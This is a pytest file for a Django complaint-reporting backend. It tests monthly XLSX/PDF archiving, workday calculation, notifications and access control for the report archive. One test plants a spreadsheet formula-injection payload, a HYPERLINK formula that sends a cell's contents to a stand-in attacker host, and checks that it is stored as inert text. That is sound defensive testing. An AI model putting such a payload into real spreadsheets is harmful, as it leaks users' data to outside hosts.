"""Issue 16 item 8: the monthly complaint analysis table is frozen on the first working day of
the month as XLSX and signed PDF into the report archive, once, and the decision makers named
for the org unit are notified; the archive lists every month."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from backend.common.models import WorkdayOverride
from backend.common.spreadsheets import inert
from backend.common.workdays import first_workday_of_month
from backend.complaints.archive import ARCHIVE_KIND, complaint_analysis_archive
from backend.customers.models import PrintedDocument
from backend.organisation.models import OrgUnit
from backend.organisation.services import user_ensure
from backend.reports.models import ReportArchive
from backend.reports.services import report_recipient_add
from tasks.models import Notification
from tests.complaints.factories import TZ, complaint_make, complaint_users

pytestmark = pytest.mark.django_db

NOV_2026 = dt.date(2026, 11, 1)


@pytest.fixture
def october(users):
    complaint_users()
    for day in (3, 20):
        complaint_make(org="GD-SZ", received_at=dt.datetime(2026, 10, day, 9, tzinfo=TZ))
    complaint_make(org="ZJ-HZ", received_at=dt.datetime(2026, 10, 21, 9, tzinfo=TZ))
    director = user_ensure(username="director.gd", password="demo-pass-2026", full_name="广东决策者")
    report_recipient_add(
        actor=None, kind=ARCHIVE_KIND, org_unit=OrgUnit.objects.get(code="GD"), user=director
    )
    return director


def _archives():
    return ReportArchive.objects.filter(kind=ARCHIVE_KIND)


def test_first_working_day_comes_from_the_calendar_and_its_overrides(db):
    WorkdayOverride.objects.create(date=dt.date(2026, 11, 2), is_workday=False)
    assert first_workday_of_month(dt.date(2026, 11, 20)) == dt.date(2026, 11, 3)  # 1st Sunday, 2nd off
    WorkdayOverride.objects.create(date=dt.date(2026, 11, 1), is_workday=True)
    assert first_workday_of_month(dt.date(2026, 11, 20)) == dt.date(2026, 11, 1)


def test_nothing_is_archived_before_the_first_working_day(october):
    WorkdayOverride.objects.create(date=dt.date(2026, 11, 2), is_workday=False)
    assert complaint_analysis_archive(today=dt.date(2026, 11, 1)) == []
    assert complaint_analysis_archive(today=dt.date(2026, 11, 2)) == []
    assert not _archives().exists()
    created = complaint_analysis_archive(today=dt.date(2026, 11, 3))
    assert {(a.org_unit.code, a.month) for a in created} == {
        ("HO", dt.date(2026, 10, 1)),
        ("GD", dt.date(2026, 10, 1)),
        ("ZJ", dt.date(2026, 10, 1)),
    }


def test_the_job_archives_once_and_notifies_the_decision_makers(october, api, users):
    from backend.complaints.jobs import archive_monthly_analysis

    today = first_workday_of_month(NOV_2026)
    created = complaint_analysis_archive(today=today)
    assert len(created) == 3
    gd = _archives().get(org_unit__code="GD", month=dt.date(2026, 10, 1))
    assert gd.figures["totals"]["total"] == 2
    assert _archives().get(org_unit__code="HO", month=dt.date(2026, 10, 1)).figures["totals"]["total"] == 3
    notes = Notification.objects.filter(user=october)
    assert notes.count() == 1 and notes.get().kind == "report" and "2026-10" in notes.get().message
    assert not Notification.objects.filter(kind="report").exclude(user=october).exists()

    # Runs twice (and as the beat job): nothing twice.
    assert complaint_analysis_archive(today=today) == []
    archive_monthly_analysis()  # today's run: whatever months are due now
    assert archive_monthly_analysis() == 0
    assert _archives().filter(month=dt.date(2026, 10, 1)).count() == 3
    assert Notification.objects.filter(user=october, message__contains="2026-10").count() == 1
    assert (
        PrintedDocument.objects.filter(kind="complaint_analysis", printed_by__isnull=True).count()
        == _archives().count()
    )

    # The decision maker (no report role) reads his unit's archive through the API, and only it.
    client = api("director.gd")
    listing = client.get("/api/reports/archives/")
    assert listing.status_code == 200, listing.content
    rows = [r for r in listing.json()["results"] if r["month"].startswith("2026-10")]
    assert [(r["kind"], r["org_unit"]) for r in rows] == [(ARCHIVE_KIND, "GD")]
    xlsx = client.get(f"/api/reports/archives/{rows[0]['id']}/xlsx/")
    assert xlsx.status_code == 200
    book = load_workbook(io.BytesIO(xlsx.content))
    summary = book.worksheets[0]
    values = [[c.value for c in row] for row in summary.iter_rows()]
    assert values[0] == ["广东省分公司 客户投诉分析表", "2026-10"]
    assert values[2][1] == 2  # the first figure: complaints received in the month
    pdf = client.get(f"/api/reports/archives/{rows[0]['id']}/pdf/")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF") and b"/ByteRange" in pdf.content
    other = _archives().get(org_unit__code="ZJ", month=dt.date(2026, 10, 1))
    assert client.get(f"/api/reports/archives/{other.pk}/pdf/").status_code == 404
    # Someone neither reporting nor named still gets 403.
    assert api("collector.sz").get("/api/reports/archives/").status_code == 403


def test_the_archive_lists_every_month_after_a_missed_run(october, api):
    complaint_analysis_archive(today=first_workday_of_month(NOV_2026))
    january = first_workday_of_month(dt.date(2027, 1, 1))
    created = complaint_analysis_archive(today=january)
    assert sorted({a.month for a in created}) == [dt.date(2026, 11, 1), dt.date(2026, 12, 1)]
    months = sorted({a.month for a in _archives().filter(org_unit__code="GD")})
    assert months == [dt.date(2026, 10, 1), dt.date(2026, 11, 1), dt.date(2026, 12, 1)]
    listing = api("compliance.ho").get("/api/reports/archives/").json()["results"]
    assert {r["month"][:7] for r in listing if r["kind"] == ARCHIVE_KIND} == {"2026-10", "2026-11", "2026-12"}


def test_text_that_looks_like_a_formula_is_archived_as_text(users):
    complaint_users()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    complaint_make(org="GD-SZ", product=hostile, received_at=dt.datetime(2026, 10, 9, 9, tzinfo=TZ))
    complaint_analysis_archive(today=first_workday_of_month(NOV_2026))
    archive = _archives().get(org_unit__code="GD", month=dt.date(2026, 10, 1))
    book = load_workbook(io.BytesIO(bytes(archive.xlsx)))
    # Written through the one inert writer: escaped text, never a formula.
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == inert(hostile)]
    assert inert(hostile) != hostile and cells and all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)
